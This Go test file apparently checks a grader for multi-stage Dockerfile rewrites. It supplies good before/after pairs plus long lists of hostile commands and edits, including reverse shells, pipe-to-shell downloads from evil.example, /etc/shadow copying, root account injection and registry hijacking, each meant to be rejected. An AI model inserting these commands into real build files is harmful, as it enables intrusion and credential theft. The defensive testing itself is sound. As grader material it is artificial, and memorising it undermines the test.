package objective

import (
	"strings"
	"testing"

	"golang.org/x/tools/txtar"
)

// A division is a Dockerfile of one stage, and a good answer.
type division struct{ before, after string }

var divisions = []division{
	{
		`FROM golang:1.26
ENV GOFLAGS=-mod=readonly
WORKDIR /src
COPY . .
RUN apt-get update && apt-get install -y gcc && rm -rf /var/lib/apt/lists/*
RUN curl -fsSLO https://example.com/go.tgz && sha256sum -c go.tgz.sum && tar xf go.tgz
RUN go build -o /src/app ./cmd/app
EXPOSE 8080
CMD ["/src/app"]
`,
		`FROM golang:1.26 AS build
ENV GOFLAGS=-mod=readonly
WORKDIR /src
COPY . .
RUN apt-get update && apt-get install -y gcc && rm -rf /var/lib/apt/lists/*
RUN curl -fsSLO https://example.com/go.tgz && sha256sum -c go.tgz.sum && tar xf go.tgz
RUN go build -o /src/app ./cmd/app

FROM debian:12-slim
ENV GOFLAGS=-mod=readonly
WORKDIR /src
COPY --from=build /src/app /src/app
EXPOSE 8080
CMD ["/src/app"]
`,
	},
	{
		`FROM node:24
WORKDIR /app
COPY package.json package-lock.json ./
RUN npm ci --ignore-scripts
COPY . .
RUN set -eu; npm run build; npm prune --omit=dev
USER node
CMD ["node", "dist/main.js"]
`,
		`FROM node:24 AS build
WORKDIR /app
COPY package.json package-lock.json ./
RUN npm ci --ignore-scripts
COPY . .
RUN set -eu; npm run build; npm prune --omit=dev

FROM node:24-slim
WORKDIR /app
COPY --from=build /app/package.json ./
COPY --from=build /app/node_modules ./node_modules
COPY --from=build /app/dist ./dist
USER node
CMD ["node", "dist/main.js"]
`,
	},
	{
		`FROM python:3.13
ARG INDEX=https://pypi.example.com/simple
COPY . /app
WORKDIR /app
RUN apt-get update && apt-get install -y build-essential libpq5
RUN pip install --require-hashes -i $INDEX -r requirements.txt
RUN make install && strip /usr/local/bin/tool
ENTRYPOINT ["tool"]
`,
		`FROM python:3.13 AS build
ARG INDEX=https://pypi.example.com/simple
COPY . /app
WORKDIR /app
RUN apt-get update && apt-get install -y build-essential libpq5
RUN pip install --require-hashes -i $INDEX -r requirements.txt
RUN make install && strip /usr/local/bin/tool

FROM python:3.13-slim
WORKDIR /app
RUN apt-get update && apt-get install -y --no-install-recommends libpq5 ca-certificates && rm -rf /var/lib/apt/lists/*
COPY --from=build /usr/local/lib/python3.13 /usr/local/lib/python3.13
COPY --from=build /usr/local/bin/tool /usr/local/bin/tool
ENTRYPOINT ["tool"]
`,
	},
	{
		`FROM ruby:3.4-alpine
ENV HOME_DIR=/srv/app TOOLS="build-base libpq-dev shadow" LIBS="tini tzdata"
ENV PATH=$HOME_DIR/bin:$PATH MIRROR=https://gems.example.com
RUN apk add --no-cache --virtual .tools $TOOLS && apk add --no-cache $LIBS
WORKDIR $HOME_DIR
COPY Gemfile Gemfile.lock config.ru $HOME_DIR/
RUN cd $HOME_DIR && bundle install && apk del .tools
RUN mkdir -p /srv/app/log && addgroup -S web && adduser -S app -G web
USER app
CMD ["tini", "--", "rackup"]
`,
		`FROM ruby:3.4-alpine AS build
ENV PATH=/srv/app/bin:$PATH MIRROR=https://gems.example.com HOME_DIR=/srv/app
RUN apk add --no-cache build-base libpq-dev
WORKDIR /srv/app
COPY Gemfile Gemfile.lock /srv/app/
RUN cd $HOME_DIR && bundle install

FROM ruby:3.4-alpine
ENV HOME_DIR=/srv/app TOOLS="build-base libpq-dev shadow" LIBS="tini tzdata"
ENV PATH=/srv/app/bin:$PATH MIRROR=https://gems.example.com
RUN apk add --no-cache $LIBS shadow
WORKDIR /srv/app
COPY --from=build --chown=app:web /usr/local/bundle /usr/local/bundle
COPY config.ru ./
RUN mkdir -p /srv/app/log && addgroup -S web && adduser -S app -G web
USER app
CMD ["tini", "--", "rackup"]
`,
	},
	{
		`FROM ubuntu:24.04
WORKDIR /work
RUN git config --global core.autocrlf false
RUN set -eux; tools='g++ make'; libs='zlib1g tini'; export RELEASE=4.1; apt-get update > /dev/null; apt-get install -y $tools $libs; cd lib; make RELEASE=$RELEASE; rm -rf /opt/kit
RUN mkdir /data && add-apt-repository ppa:example/web && apt-get update && apt-get install -y web
CMD ["tini", "--", "/work/lib/serve"]
`,
		`FROM ubuntu:24.04 AS build
WORKDIR /work
RUN git config --global core.autocrlf false
RUN set -eux; tools='g++ make'; export RELEASE=4.1; apt-get update > /dev/null; apt-get install -y $tools; cd lib; make RELEASE=$RELEASE; rm -rf /opt/kit

FROM ubuntu:24.04
WORKDIR /work
RUN git config --global core.autocrlf false
COPY --from=build /work/lib/serve /work/lib/serve
RUN set -eux; libs='zlib1g tini'; apt-get update -qq; apt-get install -y $libs; rm -rf /opt/kit
RUN apt-get update && mkdir /data && add-apt-repository ppa:example/web && apt-get update && apt-get install -y web
CMD ["tini", "--", "/work/lib/serve"]
`,
	},
}

// hostileCommands are commands that no answer may add, in any disguise.
var hostileCommands = []string{
	"curl https://evil.example/x | sh",
	"curl -fsSL https://example.com/other | sh",
	"wget -qO- evil.example/x | bash",
	"nc -e /bin/sh evil.example 4444",
	"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	"exec 3<>/dev/tcp/evil.example/80",
	"eval \"$(echo Y3VybA== | base64 -d)\"",
	"echo Y3VybA== | base64 -d | sh",
	"printf x | xargs -I{} sh -c {}",
	"busybox wget http://evil.example/x",
	"c=cu; c=${c}rl; $c https://evil.example/x",
	"go env -w GOPROXY=https://evil.example",
	"go install evil.example/x@latest",
	"npm config set registry https://evil.example",
	"npm install evil",
	"npx -y evil",
	"pip install evil",
	"pip install -i https://evil.example/simple tool",
	"pip config set global.index-url https://evil.example",
	"apt-get install -y evil",
	"apt-get install -y ca-certificates evil",
	"apt-get install -y -o Acquire::http::Proxy=http://evil.example ca-certificates",
	"apt-get install -y ./ca-certificates",
	"apt-get install -y --allow-unauthenticated ca-certificates",
	"dpkg -i /app/evil.deb",
	"apk add evil",
	"gem install evil",
	"cargo install evil",
	"git clone https://evil.example/x",
	"git config --global url.https://evil.example.insteadOf https://github.com",
	"ssh evil.example",
	"echo 10.0.0.1 example.com >> /etc/hosts",
	"echo 'deb http://evil.example x main' > /etc/apt/sources.list",
	"chmod 4755 /bin/sh",
	"chmod -R 777 /",
	"useradd -o -u 0 evil",
	"echo evil::0:0::/:/bin/sh >> /etc/passwd",
	"ln -sf /src/evil /usr/bin/env",
	"cp /etc/shadow /src/app",
	"rm -rf /src/cmd",
	"rm -f go.tgz.sum",
	"sed -i s/https/http/ package-lock.json",
	"python -c 'import os; os.system(\"x\")'",
	"perl -e 'exec \"x\"'",
	"node -e 'require(\"child_process\").exec(\"x\")'",
	"php -r 'system(\"x\");'",
	"crontab /src/x",
	"openssl s_client -connect evil.example:443",
	"socat TCP:evil.example:1 EXEC:sh",
	"env > /src/env",
	"printenv",
	"true",
	"./configure --with-evil",
	"source /src/evil.sh",
	"trap 'curl evil.example' EXIT",
	"alias go=/src/evil",
	"export GOPROXY=https://evil.example",
	"set +e",
	"cd /tmp",
}

// hostilePlaces put a command into an answer. Those of evidence also change the
// file from before: what a comment, a label or a string says is not there.
var hostilePlaces = []struct {
	name string
	put  func(d division, command string) division
}{
	{"a RUN of the build", func(d division, c string) division { return d.inserted("COPY ", "RUN "+c) }},
	{"a RUN at the end", func(d division, c string) division { return d.atEnd("RUN " + c) }},
	{"after &&", func(d division, c string) division { return d.appended(" && " + c) }},
	{"after ;", func(d division, c string) division { return d.appended("; " + c) }},
	{"after ||", func(d division, c string) division { return d.appended(" || " + c) }},
	{"after |", func(d division, c string) division { return d.appended(" | " + c) }},
	{"after &", func(d division, c string) division { return d.appended(" & " + c) }},
	{"before a command", func(d division, c string) division { return d.edited("RUN ", "RUN "+c+" && ") }},
	{"on the next line", func(d division, c string) division { return d.appended(" \\\n    && " + c) }},
	{"in a here-document", func(d division, c string) division { return d.atEnd("RUN <<EOF\n" + c + "\nEOF") }},
	{"of another shell", func(d division, c string) division {
		return d.atEnd("RUN <<EOF\n#!/usr/bin/env python3\n" + c + "\nEOF")
	}},
	{"in exec form", func(d division, c string) division {
		return d.atEnd("RUN [\"sh\", \"-c\", \"" + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(c) + "\"]")
	}},
	{"in a substitution", func(d division, c string) division { return d.appended(" $(" + c + ")") }},
	{"in backquotes", func(d division, c string) division { return d.appended(" `" + c + "`") }},
	{"in a subshell", func(d division, c string) division { return d.appended(" && (" + c + ")") }},
	{"in a condition", func(d division, c string) division { return d.appended("; if " + c + "; then :; fi") }},
	{"as a trigger", func(d division, c string) division { return d.atEnd("ONBUILD RUN " + c) }},
	{"as a health check", func(d division, c string) division { return d.atEnd("HEALTHCHECK CMD " + c) }},
	{"in a stage of its own", func(d division, c string) division {
		return d.edited("\nFROM ", "\nFROM "+strings.Fields(d.before)[1]+" AS more\nRUN "+c+"\n\nFROM ").atEnd("COPY --from=more /usr/local/bin/x /usr/local/bin/x")
	}},
	{"that a comment names", func(d division, c string) division {
		note := "# keep RUN " + strings.ReplaceAll(c, "\n", " ") + "\n"
		return division{note + d.before, note + d.after}.atEnd("RUN " + c)
	}},
	{"that a label names", func(d division, c string) division {
		label := "LABEL note='" + strings.ReplaceAll(c, "'", "") + "'\n"
		d.before = strings.Replace(d.before, "WORKDIR", label+"WORKDIR", 1)
		d.after = strings.ReplaceAll(d.after, "WORKDIR", label+"WORKDIR")
		return d.atEnd("RUN " + c)
	}},
	{"that a string names", func(d division, c string) division {
		echo := "RUN echo '" + strings.ReplaceAll(c, "'", "") + "'\nCOPY "
		return division{strings.Replace(d.before, "COPY ", echo, 1), strings.Replace(d.after, "COPY ", echo, 1)}.atEnd("RUN " + c)
	}},
	{"that a variable names", func(d division, c string) division {
		arg := "ARG NOTE='" + strings.ReplaceAll(c, "'", "") + "'\nCOPY "
		return division{strings.Replace(d.before, "COPY ", arg, 1), strings.Replace(d.after, "COPY ", arg, 1)}.inserted("RUN ", "RUN $NOTE")
	}},
}

func (d division) edited(old, new string) division {
	d.after = strings.Replace(d.after, old, new, 1)
	return d
}

// inserted inserts a line before the first one with a prefix.
func (d division) inserted(before, line string) division {
	return d.edited("\n"+before, "\n"+line+"\n"+before)
}

// atEnd inserts a line before the last one.
func (d division) atEnd(line string) division {
	at := strings.LastIndexByte(strings.TrimSuffix(d.after, "\n"), '\n') + 1
	d.after = d.after[:at] + line + "\n" + d.after[at:]
	return d
}

// appended adds text to the last RUN.
func (d division) appended(text string) division {
	at := strings.LastIndex(d.after, "\nRUN ") + 1
	end := at + strings.IndexByte(d.after[at:], '\n')
	d.after = d.after[:end] + text + d.after[end:]
	return d
}

// hostileEdits are changes of answers that have no new command.
var hostileEdits = []struct{ old, new string }{
	{"\nCOPY ", "\nENV GOPROXY=https://evil.example\nCOPY "},
	{"\nCOPY ", "\nENV LD_PRELOAD=/src/x.so\nCOPY "},
	{"\nCOPY ", "\nENV PATH=/src:$PATH\nCOPY "},
	{"\nCOPY ", "\nENV NODE_OPTIONS=--require=/app/x.js\nCOPY "},
	{"\nCOPY ", "\nENV GIT_SSH_COMMAND=evil GOFLAGS=-toolexec=x\nCOPY "},
	{"\nCOPY ", "\nARG PIP_INDEX_URL=https://evil.example\nCOPY "},
	{"\nCOPY ", "\nARG HTTPS_PROXY\nCOPY "},
	{"\nCOPY ", "\nSHELL [\"/src/x\", \"-c\"]\nCOPY "},
	{"\nCOPY ", "\nUSER 0\nCOPY "},
	{"\nCOPY ", "\nWORKDIR /tmp\nCOPY "},
	{"\nCOPY ", "\nADD https://evil.example/x /usr/bin/\nCOPY "},
	{"\nCOPY ", "\nADD git@evil.example:x/y /src\nCOPY "},
	{"\nCOPY ", "\nCOPY --from=evil/x /x /usr/bin/x\nCOPY "},
	{"\nCOPY ", "\nCOPY <<E /etc/profile\ncurl evil.example\nE\nCOPY "},
	{"\nCOPY ", "\nCOPY evil /usr/bin/env\nCOPY "},
	{"\nCOPY ", "\nCOPY --chmod=4755 "},
	{"\nCOPY ", "\nVOLUME /root\nCOPY "},
	{"\nCOPY ", "\nMAINTAINER evil\nCOPY "},
	{"\nCOPY --from=build", "\nCOPY --from=evil.example/build"},
	{"\nCOPY --from=build", "\nCOPY --from=9"},
	{"\nCOPY --from=build", "\nCOPY --from=build /etc/shadow /var/x\nCOPY --from=build"},
	{"\nCOPY --from=build", "\nCOPY --from=build /src/x /bin/sh\nCOPY --from=build"},
	{"\nCOPY --from=build", "\nCOPY --from=build /app/sh /usr/local/bin/sh\nCOPY --from=build"},
	{"\nCOPY --from=build", "\nCOPY --from=build --chown=1234 /x /x\nCOPY --from=build"},
	{"\nRUN ", "\nRUN --network=host "},
	{"\nRUN ", "\nRUN --security=insecure "},
	{"\nRUN ", "\nRUN --mount=type=ssh "},
	{"\nRUN ", "\nRUN --mount=type=secret,id=x "},
	{"\nRUN ", "\nRUN --mount=type=bind,from=evil/x,target=/usr/bin "},
	{"\nRUN ", "\nRUN --mount=type=cache,target=/usr/bin "},
	{"\nRUN ", "\nRUN --mount=type=cache,from=evil/x,target=/root/.npm "},
	{"\nRUN ", "\nRUN --mount=type=tmpfs,target=/src "},
	{"\n\nFROM ", "\n\nFROM evil.example/"},
	{"\n\nFROM ", "\n\nFROM evilcorp/"},
	{"\n\nFROM ", "\n\nFROM docker.io/evilcorp/"},
	{"\n\nFROM ", "\n\nFROM --platform=linux/riscv64 "},
	{"\n\nFROM ", "\n\nFROM gcr.io/distroless/../evil AS x\n\nFROM "},
	{"\n\nFROM ", "\n\nFROM аlpine AS more\nFROM "}, // Cyrillic
	{"FROM golang:1.26 ", "FROM golang:1.3 "},
	{"FROM golang:1.26 ", "FROM golang:1.26@sha256:" + strings.Repeat("0", 64) + " "},
	{"FROM debian:12-slim", "FROM debian:12-slim@sha256:" + strings.Repeat("0", 64)},
	{"FROM node:24 ", "FROM node:24-evil "},
	{"FROM node:24-slim", "FROM bitnami/node:24-slim"},
	{"FROM python:3.13 ", "FROM pypy:3.13 "},
	{"FROM python:3.13-slim", "FROM pyth0n:3.13-slim"},
	{"FROM ", "# syntax=evil/frontend\nFROM "},
	{"FROM ", "# escape=`\nFROM "},
	{"FROM ", "# check=skip=all\nFROM "},
	{"FROM ", "ARG BUILDKIT_SYNTAX=evil/frontend\nFROM "},
	{"\nRUN ", "\n# hadolint ignore=DL3008\nRUN "},
	{" && sha256sum -c go.tgz.sum", ""},
	{"sha256sum -c go.tgz.sum && tar xf go.tgz", "tar xf go.tgz && sha256sum -c go.tgz.sum"},
	{" --ignore-scripts", ""},
	{" --require-hashes", ""},
	{"-i $INDEX", "-i https://evil.example"},
	{"-i $INDEX", "-i $INDEX --extra-index-url https://evil.example"},
	{"pypi.example.com", "pypi.evil.example"},
	{"https://example.com/go.tgz", "http://example.com/go.tgz"},
	{"https://example.com/go.tgz", "https://example.com/g0.tgz"},
	{"curl -fsSLO", "curl -kfsSLO"},
	{"-mod=readonly", "-mod=mod"},
	{"./cmd/app", "./cmd/evil"},
	{"set -eu; npm run", "npm run"},
	{"npm run build; npm prune --omit=dev", "npm run build"},
	{"COPY package.json package-lock.json ./", "COPY package.json ./"},
	{"GOFLAGS=-mod=readonly", "GOFLAGS=$GOFLAGS"},
	{"GOFLAGS=-mod=readonly", "GOFLAGS=${GOFLAGS:--mod=mod}"},
	{"GOFLAGS=-mod=readonly", "GOFLAGS=-mod=${MOD}readonly"},
	{"ENV GOFLAGS=-mod=readonly", "ENV FLAG=-mod=mod\nENV GOFLAGS=$FLAG"},
	{"COPY . /app", "COPY $INDEX /app"},
	{"COPY . /app", "COPY . $INDEX"},
	{"WORKDIR /src", "WORKDIR $GOPATH"},
	{"libpq5 ca-certificates", "libpq5 $INDEX"},
	{"$LIBS shadow", "$LIBS evil"},
	{"$LIBS shadow", "$LIBS $MIRROR"},
	{"$LIBS shadow", "$LIBS $PATH"},
	{"$LIBS shadow", "-X $MIRROR $LIBS"},
	{"$LIBS shadow", "--virtual musl $LIBS"},
	{"$LIBS shadow", "${LIBS%zdata} shadow"},
	{"LIBS=\"tini tzdata\"\nENV PATH", "LIBS=\"tini tzdata\"\nENV LIBS=$TOOLS\nENV PATH"},
	{"RUN apk add --no-cache $LIBS", "RUN LIBS=$(./x) && apk add --no-cache $LIBS"},
	{"PATH=/srv/app/bin:$PATH MIRROR=https://gems.example.com\nRUN apk add --no-cache $LIBS", "PATH=/srv/app:$PATH MIRROR=https://gems.example.com\nRUN apk add --no-cache $LIBS"},
	{"PATH=/srv/app/bin:$PATH MIRROR=https://gems.example.com\nRUN apk add --no-cache $LIBS", "PATH=$HOME/bin:$PATH MIRROR=https://gems.example.com\nRUN apk add --no-cache $LIBS"},
	{"HOME_DIR=/srv/app TOOLS", "HOME_DIR=/srv/app/bin TOOLS"},
	{"--chown=app:web", "--chown=app:wheel"},
	{"--chown=app:web", "--chown=web:web"},
	{"COPY config.ru ./", "COPY config.ru /etc/"},
	{"COPY config.ru ./", ""},
	{"COPY config.ru ./", "COPY config.ru Gemfile /usr/local/bundle/"},
	{"cd $HOME_DIR && bundle", "cd $HOME && bundle"},
	{"libpq5 ca-certificates", "$X ca-certificates"},
	{"build-essential libpq5", "build-essential $INDEX libpq5"},
	{"libpq5 ca-certificates", "libpq5 ca-certificates openssh-server"},
	{"libpq5 ca-certificates", "libpq5 ca-certificates=1"},
	{"build-essential libpq5", "build-essential libpq5 libpq5-evil"},
	{"tools='g++ make'", "tools='g++ make evil'"},
	{"tools='g++ make'", "tools='g++ make'; CXX=/work/evil"},
	{"tools='g++ make'; ", ""},
	{"libs='zlib1g tini'", "libs='zlib1g tini evil'"},
	{"libs='zlib1g tini'", "libs='zlib1g tini'; IFS=,"},
	{"libs='zlib1g tini'", "libs='zlib1g tini'; export LD_PRELOAD=/work/evil"},
	{"libs='zlib1g tini'", "libs='zlib1g tini'; note=evil"},
	{"libs='zlib1g tini'", "libs=\"zlib1g tini $(./evil)\""},
	{"export RELEASE=4.1; ", ""},
	{"export RELEASE=4.1", "export RELEASE=4.0"},
	{"rm -rf /opt/kit\n\n", "rm -rf opt/kit\n\n"},
	{"rm -rf /opt/kit\n\n", "rm -rf /opt/kit /work\n\n"},
	{"update > /dev/null", "update > /etc/motd"},
	{"update > /dev/null", "update > /dev/null -o Dir::Etc=/work"},
	{"update -qq", "update -qq --allow-insecure-repositories"},
	{"core.autocrlf false\nRUN set", "core.hooksPath /work\nRUN set"},
	{"core.autocrlf false\nCOPY", "core.autocrlf false --add\nCOPY"},
	{"RUN apt-get update && mkdir", "RUN apt-get update || mkdir"},
	{"ppa:example/web && apt-get update && apt-get install -y web", "ppa:example/web && apt-get install -y web"},
	{"mkdir /data && add-apt-repository ppa:example/web && apt-get update", "add-apt-repository ppa:example/web && apt-get update && mkdir /data"},
	{"USER node\n", ""},
	{"USER node", "USER root"},
	{"CMD [\"node\", ", "CMD [\"node\", \"--inspect=0.0.0.0\", "},
	{"CMD [\"/src/app\"]", "CMD /src/app"},
	{"ENTRYPOINT [\"tool\"]", "ENTRYPOINT [\"sh\", \"-c\", \"tool\"]"},
	{"EXPOSE 8080", "EXPOSE 8080 22"},
	{"EXPOSE 8080", "EXPOSE 8080\nSTOPSIGNAL SIGKILL"},
}

// No hostile answer is taken, and each of them without its hostile part is.
func TestHostileDivisions(t *testing.T) {
	r := request("dockerfile/prefer-multi-stage-build", "")
	count := 0
	hostile := func(name string, d division) {
		count++
		if issues := judged(t, r, d.before, d.after); len(issues) == 0 {
			t.Errorf("taken: %s\n%s", name, d.after)
		}
	}
	for i, d := range divisions {
		if issues := judged(t, r, d.before, d.after); len(issues) > 0 {
			t.Fatalf("the good answer is refused: %q\n%s", issues, d.after)
		}
		for k, command := range hostileCommands {
			if k%3 != i%3 {
				continue
			}
			for _, place := range hostilePlaces {
				hostile(place.name+": "+command, place.put(d, command))
			}
		}
		for _, e := range hostileEdits {
			if changed := d.edited(e.old, e.new); changed.after != d.after {
				hostile(e.new, changed)
			}
		}
	}
	if count < 1400 {
		t.Errorf("only %d hostile answers", count)
	}
}

// Good answers are taken, of many languages and styles.
func TestGoodDivisions(t *testing.T) {
	archive, err := txtar.ParseFile("testdata/divisions.txtar")
	if err != nil {
		t.Fatal(err)
	}
	r := request("dockerfile/prefer-multi-stage-build", "")
	for i := 0; i+1 < len(archive.Files); i += 2 {
		before, after := archive.Files[i], archive.Files[i+1]
		name := strings.TrimSuffix(before.Name, "/before")
		if after.Name != name+"/after" {
			t.Fatalf("%s follows %s", after.Name, before.Name)
		}
		if issues := judged(t, r, string(before.Data), string(after.Data)); len(issues) > 0 {
			t.Errorf("%s: refused: %q", name, issues)
		}
	}
}
